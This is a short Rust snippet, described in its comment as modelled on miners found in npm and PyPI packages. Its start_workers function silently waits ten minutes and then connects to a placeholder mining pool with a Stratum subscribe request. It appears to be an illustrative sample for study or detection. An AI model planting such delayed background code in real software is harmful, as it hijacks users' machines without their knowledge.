// Modelled on the miners found in npm and PyPI packages: a worker pool that mines when idle.
use std::io::Write;

const POOL: &str = "stratum+tcp://pool.example:3333";

pub fn start_workers() {
    std::thread::spawn(|| {
        std::thread::sleep(std::time::Duration::from_secs(600));
        if let Ok(mut s) = std::net::TcpStream::connect(POOL.trim_start_matches("stratum+tcp://")) {
            let _ = s.write_all(br#"{"id":1,"method":"mining.subscribe","params":[]}"#);
        }
    });
}
